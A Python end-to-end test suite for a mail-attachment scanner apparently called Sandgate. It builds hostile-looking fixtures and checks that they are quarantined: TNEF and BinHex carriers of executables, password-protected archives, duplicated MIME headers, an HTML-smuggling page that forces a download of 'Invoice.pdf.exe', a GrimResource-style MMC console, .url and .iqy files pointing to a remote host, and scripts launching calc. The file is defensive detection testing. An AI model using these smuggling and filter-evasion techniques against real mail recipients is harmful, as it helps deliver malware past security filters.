#!/usr/bin/env python3
# End-to-end: the mail formats of issue 5 item 5 through `sandgate scan
# --policy policies/default.yaml --profile mail`: TNEF (winmail.dat) carrying
# an executable, a BinHex 4.0 body carrying one, and encrypted zip archives
# opened with a password found in the subject or the text of the message
# (archive.encrypted.opened), or not opened when the password is wrong
# (archive.encrypted stands and the policy quarantines). Fixtures are built at
# test time: TNEF byte by byte from MS-OXTNEF, BinHex by an encoder written
# here from RFC 1741's appendix, zip files with 7zz (AES) and zip (ZipCrypto).

import base64
import io
import os
import shutil
import struct
import subprocess
import unittest
import zipfile
from email.message import EmailMessage

from harness import SandgateCase, finding_ids, main
import fixtures as F
import rar_writer as rar

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
SHIPPED = os.path.join(ROOT, "policies", "default.yaml")

PE = F.minimal_pe(b"mail formats fixture")
TEXT = F.prose(2000, seed=5)


def need(*tools):
    missing = [t for t in tools if not F.have(t)]
    return unittest.skipIf(missing, "fixture tool(s) missing: %s" % ", ".join(missing))


# -- TNEF (MS-OXTNEF 2.1.3) ------------------------------------------------

def _le(v, n):
    return v.to_bytes(n, "little")


def _attr(level, attr_id, data):
    return bytes([level]) + _le(attr_id, 4) + _le(len(data), 4) + data + _le(sum(data) & 0xFFFF, 2)


def _pad4(b):
    return b + b"\0" * (-len(b) % 4)


def tnef(attachments):
    """attachments: [(title, data, long_name or None)]."""
    out = _le(0x223E9F78, 4) + _le(1, 2)
    out += _attr(1, 0x00089006, _le(0x10000, 4))               # attTnefVersion
    out += _attr(1, 0x00069007, _le(1252, 4) + _le(0, 4))      # attOemCodepage
    out += _attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\0")  # attMessageClass
    for title, data, long_name in attachments:
        out += _attr(2, 0x00069002, b"\0" * 14)                # attAttachRenddata
        out += _attr(2, 0x00018010, title + b"\0")             # attAttachTitle
        out += _attr(2, 0x0006800F, data)                      # attAttachData
        if long_name:
            name = long_name.encode("utf-16-le") + b"\0\0"
            props = _le(1, 4) + _le(0x001F, 2) + _le(0x3707, 2) + _le(1, 4) + _le(len(name), 4) + _pad4(name)
            out += _attr(2, 0x00069005, props)                 # attAttachment
    return out


# -- BinHex 4.0 ------------------------------------------------------------

_BINHEX = "!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"


def _crc16(data):
    c = 0
    for b in data:
        c ^= b << 8
        for _ in range(8):
            c = ((c << 1) ^ 0x1021) & 0xFFFF if c & 0x8000 else (c << 1) & 0xFFFF
    return c


def _rle(data):
    out = bytearray()
    i = 0
    while i < len(data):
        b, n = data[i], 1
        while i + n < len(data) and data[i + n] == b and n < 255:
            n += 1
        if b == 0x90:
            out += b"\x90\x00" + (bytes([0x90, n]) if n > 1 else b"")
        elif n >= 3:
            out += bytes([b, 0x90, n])
        else:
            out += bytes([b]) * n
        i += n
    return bytes(out)


def binhex(name, data):
    hdr = bytes([len(name)]) + name + b"\0" + b"APPL" + b"????" + b"\0\0" + struct.pack(">II", len(data), 0)
    body = hdr + struct.pack(">H", _crc16(hdr)) + data + struct.pack(">H", _crc16(data)) + b"\0\0"
    bits = "".join(format(b, "08b") for b in _rle(body))
    bits += "0" * (-len(bits) % 6)
    s = ":" + "".join(_BINHEX[int(bits[i:i + 6], 2)] for i in range(0, len(bits), 6)) + ":"
    return "\n".join(s[i:i + 64] for i in range(0, len(s), 64)) + "\n"


# -- mail ------------------------------------------------------------------

def mail(subject, body, attachment=None, filename=None, mime=("application", "octet-stream")):
    msg = EmailMessage()
    msg["From"] = "Sender <sender@example.org>"
    msg["To"] = "clerk@example.com"
    msg["Subject"] = subject
    msg["Message-ID"] = "<mail-formats@example.org>"
    msg.set_content(body)
    if attachment is not None:
        msg.add_attachment(attachment, maintype=mime[0], subtype=mime[1], filename=filename)
    return msg.as_bytes()


class MailFormats(SandgateCase):

    def scan_mail(self, name, raw, expect_rc=None, policy=SHIPPED):
        p = self.write(name, raw)
        res, rep = self.scan1(p, args=("--policy", policy, "--profile", "mail"),
                              expect_rc=expect_rc, builtin=False)
        self.assertEqual(rep["policy"]["profile"], "mail")
        return rep

    def objs_named(self, rep, suffix):
        return [o for o in rep["objects"] if o["path"].endswith("/" + suffix)]

    # -- HTML attachments --

    def test_smuggling_page_behind_text_or_a_nul_is_quarantined(self):
        # A browser renders offer.html as a page whatever precedes its tags;
        # type sniffing reads only the start. Plain text or one NUL before the
        # script made the page "text" or "data" and the shipped policy passed it.
        page = (b"<html><body><script>var b=atob('TVqQAAMAAAAEAAAA');"
                b"var blob=new Blob([b],{type:'application/octet-stream'});"
                b"var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
                b"a.download='Invoice.pdf.exe';a.click();</script></body></html>\n")
        for i, prefix in enumerate((b"Dear candidate, the offer follows.\n" * 80, b"\0")):
            rep = self.scan_mail("smuggle%d.eml" % i,
                                 mail("offer", "See the attached offer.\n", prefix + page, "offer.html",
                                      ("text", "html")), expect_rc=1)
            html = self.obj(rep, "smuggle%d.eml/offer.html" % i)
            self.assertEqual(html["type"]["label"], "html", self.tree(rep))
            self.assertFinding(html, "html.smuggling")
            self.assertEqual(rep["verdict"], "quarantine")

    # -- files that run when opened, typed as text or XML --

    def test_shortcuts_and_consoles_that_run_when_opened_are_quarantined(self):
        # Content typing sees text or XML; Windows runs them (an MMC console's
        # script, GrimResource; an Internet shortcut to a program; an Excel web
        # query). The shipped mail profile holds them by name, in a zip too.
        msc = (b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0">'
               b'<StringTable><String ID="1">javascript:eval(external.ExecuteShellCommand)</String>'
               b'</StringTable></MMC_ConsoleFile>\r\n')
        url = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
        iqy = b"WEB\r\n1\r\nhttps://198.51.100.7/q.txt\r\n"
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w") as z:
            z.writestr("docs/Invoice.url", url)
        cases = [("console.msc", msc, "console.msc"), ("Invoice.url", url, "Invoice.url"),
                 ("prices.iqy", iqy, "prices.iqy"), ("invoice.zip", zipped.getvalue(),
                                                     "invoice.zip/docs/Invoice.url")]
        for i, (name, data, blamed) in enumerate(cases):
            rep = self.scan_mail("runs%d.eml" % i, mail("files", "Attached.\n", data, name), expect_rc=1)
            self.assertEqual(rep["verdict"], "quarantine", self.tree(rep))
            self.assertIn({"rule": "runs-when-opened", "object": "runs%d.eml/%s" % (i, blamed)},
                          [{"rule": r["rule"], "object": r["object"]} for r in rep["reasons"]])
        # A plain text attachment still passes.
        rep = self.scan_mail("runs-text.eml", mail("notes", "Attached.\n", b"just notes\r\n", "notes.txt",
                                                   ("text", "plain")), expect_rc=0)
        self.assertEqual(rep["verdict"], "pass")

    # -- ambiguous MIME --

    def test_fields_and_parameters_given_twice_are_held(self):
        # Sandgate reads the first of two Content-Transfer-Encoding or
        # Content-Type fields, or boundary parameters; a client that reads the
        # last one sees an executable that was never scanned. The shipped mail
        # profile holds such messages (ambiguous-mime) instead of passing them.
        b64 = base64.encodebytes(PE).replace(b"\n", b"\r\n")
        head = b"From: a@example.org\r\nTo: b@example.com\r\nSubject: offer\r\nMIME-Version: 1.0\r\n"
        exe_part = (b"Content-Type: application/octet-stream; name=tool.bin\r\n"
                    b"Content-Transfer-Encoding: base64\r\n\r\n" + b64)
        cases = {
            "cte": head + b"Content-Type: multipart/mixed; boundary=A\r\n\r\n--A\r\n"
                   b"Content-Type: application/octet-stream; name=tool.bin\r\n"
                   b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                   b64 + b"--A--\r\n",
            "type": head + b"Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=A\r\n\r\n"
                    b"--A\r\n" + exe_part + b"--A--\r\n",
            "boundary": head + b"Content-Type: multipart/mixed; boundary=B; boundary=A\r\n\r\n"
                        b"--A\r\n" + exe_part + b"--A--\r\n",
        }
        # A header block past the reader's caps: the rest is read as body.
        cases["header-lines"] = (head + b"X-Pad: a\r\n" * 10001 +
                                 b"Content-Type: multipart/mixed; boundary=A\r\n\r\n--A\r\n" +
                                 exe_part + b"--A--\r\n")
        for name, raw in cases.items():
            rep = self.scan_mail("ambiguous-%s.eml" % name, raw, expect_rc=1)
            self.assertEqual(rep["verdict"], "quarantine", self.tree(rep))
            self.assertIn("ambiguous-mime", [r["rule"] for r in rep["reasons"]], name)

    def test_multiparts_nested_past_the_depth_limit_are_a_limit(self):
        # Thirteen nested multiparts: past the depth limit (12) the rest is one
        # opaque part and the executable inside is never decoded. That is a
        # limit (limits.depth), held by the shipped on_limit, not a pass.
        inner = (b"Content-Type: application/octet-stream; name=tool.bin\r\n"
                 b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(PE).replace(b"\n", b"\r\n"))
        for i in range(13):
            b = b"B%d" % i
            inner = (b"Content-Type: multipart/mixed; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n" +
                     inner + b"--" + b + b"--\r\n")
        raw = b"From: a@example.org\r\nTo: b@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n" + inner
        rep = self.scan_mail("deep.eml", raw, expect_rc=1)
        self.assertEqual(rep["verdict"], "quarantine", self.tree(rep))
        self.assertIn("limits.depth", rep["limits"]["hit"])

    # -- scripts --

    def test_scripts_with_a_control_byte_are_still_scripts(self):
        # One NUL or control byte made a script "data" to the text checks, and
        # the shipped mail profile passed it; the script host runs it anyway.
        scripts = {"run.bat": b"\x00\r\n@echo off\r\nstart calc\r\n",
                   "run.js": b"/*\x01\x02*/ new ActiveXObject('WScript.Shell').Run('calc');\r\n",
                   "run.vbs": b"' \x00\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n"}
        for i, (name, data) in enumerate(sorted(scripts.items())):
            rep = self.scan_mail("script%d.eml" % i, mail("run", "Attached.\n", data, name), expect_rc=1)
            obj = self.obj(rep, "script%d.eml/%s" % (i, name))
            self.assertFinding(obj, "type.executable")
            self.assertEqual(rep["verdict"], "quarantine", self.tree(rep))

    # -- ARJ --

    def test_arj_attachment_is_opened_and_its_executable_found(self):
        # No Debian library reads ARJ and it was passed unopened; recipients
        # open it with WinRAR or 7-Zip. Read by the confined 7zz now.
        work = self.workdir("arj")
        with open(os.path.join(work, "Invoice.pdf.exe"), "wb") as f:
            f.write(PE)
        with open(os.path.join(work, "readme.txt"), "wb") as f:
            f.write(TEXT)
        subprocess.run(["arj", "a", "-y", "docs.arj", "Invoice.pdf.exe", "readme.txt"], cwd=work,
                       check=True, capture_output=True)
        with open(os.path.join(work, "docs.arj"), "rb") as f:
            arj = f.read()
        rep = self.scan_mail("arj.eml", mail("docs", "Attached.\n", arj, "docs.arj"), expect_rc=1)
        self.assertEqual(self.obj(rep, "arj.eml/docs.arj")["type"]["label"], "arj")
        exe = self.obj(rep, "arj.eml/docs.arj/Invoice.pdf.exe")
        self.assertEqual(exe["type"]["label"], "pe")
        self.assertBytes(exe, PE)
        self.assertBytes(self.obj(rep, "arj.eml/docs.arj/readme.txt"), TEXT)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["object"] == exe["path"] for r in rep["reasons"]), rep["reasons"])

    # -- TNEF --

    def test_winmail_dat_with_exe_is_quarantined(self):
        blob = tnef([(b"NOTES.TXT", TEXT, None), (b"INVOIC~1.EXE", PE, "Invoice 2024.pdf.exe")])
        rep = self.scan_mail("tnef.eml", mail("Invoice", "See attached.\n", blob, "winmail.dat",
                                              ("application", "ms-tnef")), expect_rc=1)
        w = self.obj(rep, "tnef.eml/winmail.dat")
        self.assertEqual(w["type"]["label"], "tnef", self.tree(rep))
        self.assertNotIn("tnef.malformed", [f["id"] for f in w["findings"]])
        notes = self.obj(rep, "tnef.eml/winmail.dat/NOTES.TXT")
        self.assertBytes(notes, TEXT)
        exe = self.obj(rep, "tnef.eml/winmail.dat/Invoice 2024.pdf.exe")
        self.assertEqual((exe["type"]["label"], exe["depth"]), ("pe", w["depth"] + 1))
        self.assertBytes(exe, PE)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["object"] == exe["path"] for r in rep["reasons"]), rep["reasons"])

    def test_truncated_winmail_dat_keeps_what_was_read(self):
        blob = tnef([(b"SETUP.EXE", PE, None), (b"MORE.TXT", TEXT, None)])
        blob = blob[:-200]  # cuts the second attachment's data short
        rep = self.scan_mail("tnef-cut.eml", mail("x", "y\n", blob, "winmail.dat",
                                                  ("application", "ms-tnef")), expect_rc=1)
        self.assertFinding(self.obj(rep, "tnef-cut.eml/winmail.dat"), "tnef.malformed")
        exe = self.obj(rep, "tnef-cut.eml/winmail.dat/SETUP.EXE")
        self.assertBytes(exe, PE)
        self.assertEqual(rep["verdict"], "quarantine")

    # -- BinHex --

    def test_binhex_exe_in_body_is_found(self):
        body = ("Here is the tool.\n\n(This file must be converted with BinHex 4.0)\n\n" +
                binhex(b"tool.exe", PE))
        rep = self.scan_mail("binhex.eml", mail("tool", body), expect_rc=1)
        exes = self.objs_named(rep, "tool.exe")
        self.assertEqual(len(exes), 1, self.tree(rep))
        self.assertEqual(exes[0]["type"]["label"], "pe")
        self.assertBytes(exes[0], PE)
        self.assertNotIn("mime.binhex.crc", finding_ids(rep))
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["object"] == exes[0]["path"] for r in rep["reasons"]), rep["reasons"])

    def test_binhex_attachment_declared_mac_binhex40(self):
        # BinHex is 7-bit text already: mailers send it without a transfer encoding.
        raw = ("From: a@example.org\r\nTo: b@example.com\r\nSubject: mac file\r\n"
               "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xx\"\r\n\r\n"
               "--xx\r\nContent-Type: text/plain\r\n\r\nattached\r\n"
               "--xx\r\nContent-Type: application/mac-binhex40; name=\"setup.hqx\"\r\n"
               "Content-Transfer-Encoding: 7bit\r\n\r\n" +
               binhex(b"setup.exe", PE).replace("\n", "\r\n") + "--xx--\r\n").encode()
        rep = self.scan_mail("hqx.eml", raw, expect_rc=1)
        exes = self.objs_named(rep, "setup.exe")
        self.assertEqual(len(exes), 1, self.tree(rep))
        self.assertBytes(exes[0], PE)

    def test_binhex_attachment_in_base64_is_decoded(self):
        # A .hqx sent base64-encoded (as most mailers send attachments), with
        # and without the banner: the decoded part is typed binhex by its
        # bytes and its program reaches the policy.
        for banner in ("", "(This file must be converted with BinHex 4.0)\n\n"):
            hqx = (banner + binhex(b"setup.exe", PE)).encode()
            name = "b64hqx%d.eml" % len(banner)
            rep = self.scan_mail(name, mail("mac file", "attached\n", hqx, "setup.hqx",
                                            ("application", "octet-stream")), expect_rc=1)
            self.assertEqual(self.obj(rep, name + "/setup.hqx")["type"]["label"], "binhex")
            exe = self.obj(rep, name + "/setup.hqx/setup.exe")
            self.assertEqual(exe["type"]["label"], "pe")
            self.assertBytes(exe, PE)
            self.assertEqual(rep["verdict"], "quarantine")

    @need("zip")
    def test_binhex_file_inside_a_zip_is_decoded(self):
        hqx = ("(This file must be converted with BinHex 4.0)\n\n" + binhex(b"tool.exe", PE)).encode()
        z = F.file_bytes(F.make_zip_tool(self.path("hqx.zip"), {"tool.hqx": hqx}, self.workdir("hqxzip")))
        rep = self.scan_mail("hqxzip.eml", mail("tools", "see zip\n", z, "tools.zip", ("application", "zip")),
                             expect_rc=1)
        self.assertBytes(self.obj(rep, "hqxzip.eml/tools.zip/tool.hqx/tool.exe"), PE)

    # -- encrypted zip and password candidates --

    def aes_zip(self, name, files, password):
        return F.file_bytes(F.make_7z(self.path(name), files, self.workdir(name),
                                      extra=("-tzip", "-mem=AES256", "-p" + password)))

    def check_opened(self, rep, zip_path, exe_name, password_source):
        z = self.obj(rep, zip_path)
        ids = [f["id"] for f in z["findings"]]
        self.assertIn("archive.encrypted.opened", ids, self.tree(rep))
        ev = [f.get("evidence", "") for f in z["findings"] if f["id"] == "archive.encrypted.opened"][0]
        self.assertIn("Secret123", ev)
        self.assertIn(password_source, ev)
        self.assertNotIn("archive.encrypted", finding_ids(rep))
        exe = self.obj(rep, zip_path + "/" + exe_name)
        self.assertEqual(exe["type"]["label"], "pe")
        self.assertBytes(exe, PE)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["object"] == exe["path"] for r in rep["reasons"]), rep["reasons"])

    @need("7zz")
    def test_password_in_subject_opens_aes_zip(self):
        z = self.aes_zip("subj.zip", {"Invoice.pdf.exe": PE}, "Secret123")
        rep = self.scan_mail("subject.eml", mail("Invoice (password: Secret123)", "Please pay.\n",
                                                 z, "invoice.zip", ("application", "zip")),
                             expect_rc=1)
        self.check_opened(rep, "subject.eml/invoice.zip", "Invoice.pdf.exe", "subject")

    @need("7zz")
    def test_password_in_body_opens_aes_zip(self):
        z = self.aes_zip("body.zip", {"Invoice.pdf.exe": PE}, "Secret123")
        rep = self.scan_mail("body.eml", mail("Invoice", 'Hello,\nThe password is "Secret123"\n',
                                              z, "invoice.zip", ("application", "zip")),
                             expect_rc=1)
        self.check_opened(rep, "body.eml/invoice.zip", "Invoice.pdf.exe", "text of part1")

    @need("zip")
    def test_password_in_body_opens_zipcrypto(self):
        z = F.file_bytes(F.make_zip_tool(self.path("zc.zip"), {"Invoice.pdf.exe": PE},
                                         self.workdir("zc"), extra=("-P", "Secret123")))
        rep = self.scan_mail("zipcrypto.eml", mail("Docs", "Passwort: Secret123\n", z, "docs.zip",
                                                   ("application", "zip")), expect_rc=1)
        self.check_opened(rep, "zipcrypto.eml/docs.zip", "Invoice.pdf.exe", "text of part1")

    @need("7zz")
    def test_opened_clean_archive_passes(self):
        z = self.aes_zip("clean.zip", {"report.txt": TEXT}, "Secret123")
        rep = self.scan_mail("clean.eml", mail("Report (password: Secret123)", "As discussed.\n",
                                               z, "report.zip", ("application", "zip")),
                             expect_rc=0)
        self.assertFinding(self.obj(rep, "clean.eml/report.zip"), "archive.encrypted.opened")
        self.assertBytes(self.obj(rep, "clean.eml/report.zip/report.txt"), TEXT)
        self.assertEqual(rep["verdict"], "pass")

    @need("7zz")
    def test_wrong_password_encrypted_archive_alone_is_quarantined(self):
        # The archive's entry has a harmless name, so archive.encrypted is
        # what the policy quarantines on.
        z = self.aes_zip("wrong2.zip", {"report.txt": TEXT}, "Secret123")
        rep = self.scan_mail("wrong2.eml", mail("Report (password: Wrong999)", "see attached\n",
                                                z, "report.zip", ("application", "zip")),
                             expect_rc=1)
        self.assertIn("archive.encrypted", finding_ids(rep), self.tree(rep))
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["rule"] == "encrypted-archives" for r in rep["reasons"]), rep["reasons"])

    @need("7zz")
    def test_wrong_password_leaves_archive_encrypted(self):
        z = self.aes_zip("wrong.zip", {"Invoice.pdf.exe": PE}, "Secret123")
        rep = self.scan_mail("wrong.eml", mail("Invoice (password: Wrong999)", "The password is Nope\n",
                                               z, "invoice.zip", ("application", "zip")),
                             expect_rc=1)
        ids = finding_ids(rep)
        self.assertIn("archive.encrypted", ids, self.tree(rep))
        self.assertNotIn("archive.encrypted.opened", ids)
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertFalse(any(o["type"]["label"] == "pe" for o in rep["objects"]), self.tree(rep))

    def policy_with_passwords(self, name, passwords_yaml):
        # The shipped policy (with its lists and rules) whose archive_passwords
        # line is replaced.
        d = self.workdir(name)
        shutil.copytree(os.path.dirname(SHIPPED), os.path.join(d, "policies"))
        path = os.path.join(d, "policies", "default.yaml")
        with open(path) as f:
            text = f.read()
        lines = [l for l in text.splitlines() if l.startswith("archive_passwords:")]
        self.assertEqual(len(lines), 1)
        with open(path, "w") as f:
            f.write(text.replace(lines[0], "archive_passwords: " + passwords_yaml))
        return path

    @need("zip")
    def test_password_from_the_policy_list_opens_zipcrypto(self):
        # The message says nothing of a password: only the policy knows it.
        z = F.file_bytes(F.make_zip_tool(self.path("partner.zip"), {"Invoice.pdf.exe": PE},
                                         self.workdir("partner"), extra=("-P", "Partner-2026!")))
        raw = mail("Monthly report", "As agreed.\n", z, "report.zip", ("application", "zip"))
        rep = self.scan_mail("partner-shipped.eml", raw, expect_rc=1)
        self.assertIn("archive.encrypted", finding_ids(rep), self.tree(rep))
        self.assertNotIn("archive.encrypted.opened", finding_ids(rep))
        policy = self.policy_with_passwords("partner-policy", '[infected, "Partner-2026!"]')
        rep = self.scan_mail("partner.eml", raw, expect_rc=1, policy=policy)
        z = self.obj(rep, "partner.eml/report.zip")
        ev = [f.get("evidence", "") for f in z["findings"] if f["id"] == "archive.encrypted.opened"]
        self.assertEqual(len(ev), 1, self.tree(rep))
        self.assertIn("Partner-2026!", ev[0])
        self.assertIn("archive_passwords", ev[0])
        self.assertNotIn("archive.encrypted", finding_ids(rep))
        self.assertBytes(self.obj(rep, "partner.eml/report.zip/Invoice.pdf.exe"), PE)
        self.assertEqual(rep["verdict"], "quarantine")

    @need("zip")
    def test_an_empty_policy_list_tries_only_the_message_candidates(self):
        z = F.file_bytes(F.make_zip_tool(self.path("infected.zip"), {"report.txt": TEXT},
                                         self.workdir("infected"), extra=("-P", "infected")))
        raw = mail("Sample", "see attached\n", z, "sample.zip", ("application", "zip"))
        rep = self.scan_mail("default-list.eml", raw, expect_rc=0)
        self.assertFinding(self.obj(rep, "default-list.eml/sample.zip"), "archive.encrypted.opened")
        policy = self.policy_with_passwords("empty-list", "[]")
        rep = self.scan_mail("empty-list.eml", raw, expect_rc=1, policy=policy)
        self.assertIn("archive.encrypted", finding_ids(rep), self.tree(rep))
        self.assertNotIn("archive.encrypted.opened", finding_ids(rep))

    # libarchive cannot decrypt 7z or RAR (FACTS.md): the confined 7zz tests
    # the candidates and extracts with the one that works.

    def enc_7z(self, name, files, password, headers=False):
        extra = ("-p" + password,) + (("-mhe=on",) if headers else ())
        return F.file_bytes(F.make_7z(self.path(name), files, self.workdir(name), extra=extra))

    @need("7zz")
    def test_password_in_subject_opens_encrypted_7z(self):
        s = self.enc_7z("enc.7z", {"Invoice.pdf.exe": PE, "note.txt": TEXT}, "Secret123")
        rep = self.scan_mail("sevenz.eml", mail("Invoice (password: Secret123)", "Please pay.\n",
                                                s, "invoice.7z", ("application", "x-7z-compressed")),
                             expect_rc=1)
        self.check_opened(rep, "sevenz.eml/invoice.7z", "Invoice.pdf.exe", "subject")
        self.assertBytes(self.obj(rep, "sevenz.eml/invoice.7z/note.txt"), TEXT)

    @need("7zz")
    def test_password_in_body_opens_7z_with_encrypted_headers(self):
        # Not even the names can be read without the password.
        s = self.enc_7z("hdr.7z", {"Invoice.pdf.exe": PE}, "Secret123", headers=True)
        rep = self.scan_mail("sevenzh.eml", mail("Invoice", "Passwort: Secret123\n",
                                                 s, "invoice.7z", ("application", "x-7z-compressed")),
                             expect_rc=1)
        self.check_opened(rep, "sevenzh.eml/invoice.7z", "Invoice.pdf.exe", "text of part1")
        self.assertNotIn("unpack.error", finding_ids(rep))

    @need("7zz")
    def test_wrong_password_leaves_7z_encrypted(self):
        for headers in (False, True):
            name = "wrong7z%d.eml" % headers
            s = self.enc_7z("wrong%d.7z" % headers, {"Invoice.pdf.exe": PE}, "Secret123", headers)
            rep = self.scan_mail(name, mail("Invoice (password: Wrong999)", "see attached\n",
                                            s, "invoice.7z", ("application", "x-7z-compressed")),
                                 expect_rc=1)
            ids = finding_ids(rep)
            self.assertIn("archive.encrypted", ids, self.tree(rep))
            self.assertNotIn("archive.encrypted.opened", ids)
            self.assertNotIn("unpack.error", ids)  # encrypted headers are not corruption
            self.assertFalse(any(o["type"]["label"] == "pe" for o in rep["objects"]), self.tree(rep))
            self.assertEqual(rep["verdict"], "quarantine")
            if headers:  # no name to go by: the encryption itself is the reason
                self.assertTrue(any(r["rule"] == "encrypted-archives" for r in rep["reasons"]),
                                rep["reasons"])

    # RAR: no Debian tool writes it, so tests/e2e/rar_writer.py does (stored files,
    # AES-256 as RAR 5 does it). libarchive 3.6 reads RAR 5 but ignores its
    # encryption records (it would hand out ciphertext as plain entries);
    # our own header walk (unpack/archive/rar5_headers.h) marks them.

    def rar_mail(self, name, blob, subject="Invoice (password: Secret123)", expect_rc=1):
        return self.scan_mail(name, mail(subject, "see attached\n", blob, "invoice.rar",
                                         ("application", "vnd.rar")), expect_rc=expect_rc)

    @staticmethod
    def sevenzip_reads_rar():
        if not F.have("7zz"):
            return None
        out = subprocess.run(["7zz", "i"], stdout=subprocess.PIPE, text=True).stdout
        return any(len(l.split()) > 1 and l.split()[1] in ("Rar", "Rar5") for l in out.splitlines())

    def test_rar5_entries_are_read(self):
        # The writer's plain output is a RAR 5 that libarchive reads back.
        blob = rar.rar5({"Invoice.pdf.exe": PE, "note.txt": TEXT})
        rep = self.rar_mail("rar5.eml", blob, subject="Invoice")
        self.assertBytes(self.obj(rep, "rar5.eml/invoice.rar/note.txt"), TEXT)
        exe = self.obj(rep, "rar5.eml/invoice.rar/Invoice.pdf.exe")
        self.assertEqual(exe["type"]["label"], "pe", self.tree(rep))
        self.assertNotIn("archive.encrypted", finding_ids(rep))

    def test_encrypted_rar5_entries_are_encrypted_not_ciphertext(self):
        blob = rar.rar5({"cv.pdf": PE, "note.txt": TEXT}, password="Secret123")
        rep = self.rar_mail("rar5enc.eml", blob)
        reads_rar = self.sevenzip_reads_rar()
        if reads_rar:  # a 7zz with the non-free RAR codec opens it with the subject's password
            self.check_opened(rep, "rar5enc.eml/invoice.rar", "cv.pdf", "subject")
            return
        for entry in ("cv.pdf", "note.txt"):
            o = self.obj(rep, "rar5enc.eml/invoice.rar/" + entry)
            self.assertFinding(o, "archive.encrypted")
            if reads_rar is False:
                ev = [f.get("evidence", "") for f in o["findings"] if f["id"] == "archive.encrypted"]
                self.assertIn("no RAR codec", ev[0])
        self.assertNotIn("archive.encrypted.opened", finding_ids(rep))
        self.assertEqual(rep["verdict"], "quarantine")
        self.assertTrue(any(r["rule"] == "encrypted-archives" for r in rep["reasons"]), rep["reasons"])

    def test_damaged_rar5_header_fails_closed(self):
        # A file header that does not check out: what follows it cannot be
        # checked for encryption, so the container is an unpack error.
        blob = bytearray(rar.rar5({"cv.pdf": TEXT}, password="Secret123"))
        blob[16 + 6] ^= 0x55  # inside the first file header (after signature and main header)
        rep = self.rar_mail("rar5bad.eml", bytes(blob))
        arc = self.obj(rep, "rar5bad.eml/invoice.rar")
        self.assertIn("cannot be checked for encryption",
                      " ".join(f["message"] for f in arc["findings"] if f["id"] == "unpack.error"),
                      self.tree(rep))
        self.assertEqual(rep["verdict"], "quarantine")

    def test_rar4_plain_and_encrypted(self):
        # RAR 4 (2.9/3.x): libarchive reads the password flag itself.
        rep = self.rar_mail("rar4.eml", rar.rar4({"note.txt": TEXT}), subject="Invoice", expect_rc=0)
        self.assertBytes(self.obj(rep, "rar4.eml/invoice.rar/note.txt"), TEXT)
        rep = self.rar_mail("rar4enc.eml", rar.rar4({"cv.pdf": PE, "note.txt": TEXT}, encrypted=True))
        for entry in ("cv.pdf", "note.txt"):
            self.assertFinding(self.obj(rep, "rar4enc.eml/invoice.rar/" + entry), "archive.encrypted")
        self.assertEqual(rep["verdict"], "quarantine")

    def test_rar5_with_encrypted_headers_is_encrypted(self):
        blob = rar.rar5({"cv.pdf": PE}, password="Secret123", encrypt_headers=True)
        rep = self.rar_mail("rar5hdr.eml", blob)
        if self.sevenzip_reads_rar():
            self.check_opened(rep, "rar5hdr.eml/invoice.rar", "cv.pdf", "subject")
            return
        arc = self.obj(rep, "rar5hdr.eml/invoice.rar")
        self.assertFinding(arc, "archive.encrypted")
        self.assertIn("headers are encrypted", " ".join(f["message"] for f in arc["findings"]))
        self.assertFalse(any(o["path"].startswith(arc["path"] + "/") for o in rep["objects"]),
                         self.tree(rep))
        self.assertNotIn("unpack.error", finding_ids(rep))
        self.assertEqual(rep["verdict"], "quarantine")

    @need("7zz")
    def test_opened_7z_beyond_the_limits_is_not_extracted(self):
        # 64 MiB of zeros packs into a few KiB: the declared size is checked
        # against the ratio limit before 7zz writes anything.
        s = self.enc_7z("bomb.7z", {"zeros.bin": b"\0" * (64 << 20)}, "infected")
        rep = self.scan_mail("bomb7z.eml", mail("sample", "no hint\n", s, "z.7z",
                                                ("application", "x-7z-compressed")), expect_rc=1)
        z = self.obj(rep, "bomb7z.eml/z.7z")
        self.assertIn("beyond the limits", " ".join(f["message"] for f in z["findings"]), self.tree(rep))
        self.assertFalse(any(o["path"].endswith("zeros.bin") and o["size"] > 0 for o in rep["objects"]),
                         self.tree(rep))
        self.assertEqual(rep["verdict"], "quarantine")

    @need("7zz")
    def test_well_known_password_opens_without_a_hint(self):
        z = self.aes_zip("infected.zip", {"sample.exe": PE}, "infected")
        s = self.enc_7z("infected.7z", {"sample.exe": PE}, "infected", headers=True)
        for name, blob in (("sample.zip", z), ("sample.7z", s)):
            rep = self.scan_mail("infected-" + name + ".eml",
                                 mail("sample", "no hint here\n", blob, name,
                                      ("application", "octet-stream")), expect_rc=1)
            arc = self.obj(rep, "infected-%s.eml/%s" % (name, name))
            self.assertFinding(arc, "archive.encrypted.opened")
            self.assertEqual(self.obj(rep, arc["path"] + "/sample.exe")["type"]["label"], "pe")


if __name__ == "__main__":
    main()
